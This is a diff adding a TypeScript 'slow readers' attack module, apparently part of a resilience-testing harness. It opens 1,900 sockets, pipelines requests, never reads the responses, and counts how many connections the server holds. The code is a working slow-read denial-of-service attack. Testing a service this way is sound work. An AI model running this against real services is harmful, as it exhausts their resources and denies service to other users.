@@ -1,0 +1,30 @@
+import type { Socket } from 'node:net'
+import { setTimeout as delay } from 'node:timers/promises'
+import { type Attack, open } from './attack.ts'
+
+const connections = 1_900
+const holdMs = 10_000
+
+/** Asks for as much as there is on every connection, and reads nothing. */
+export const attack: Attack = {
+  name: 'slow readers',
+  run: async (target) => {
+    const sockets: Socket[] = []
+    for (let n = 0; n < connections; n++) {
+      const socket = open(target, target.frontend)
+      socket.pause()
+      socket.write('GET /api/activities/home HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(5))
+      sockets.push(socket)
+      if (n % 50 === 49) await delay(50)
+    }
+    await delay(holdMs)
+    // Who does not read learns of the end only by writing, the second time.
+    for (let n = 0; n < 2; n++) {
+      for (const socket of sockets) socket.write('x')
+      await delay(500)
+    }
+    const held = sockets.filter((socket) => !socket.closed).length
+    for (const socket of sockets) socket.destroy()
+    return { opened: connections, held }
+  },
+}
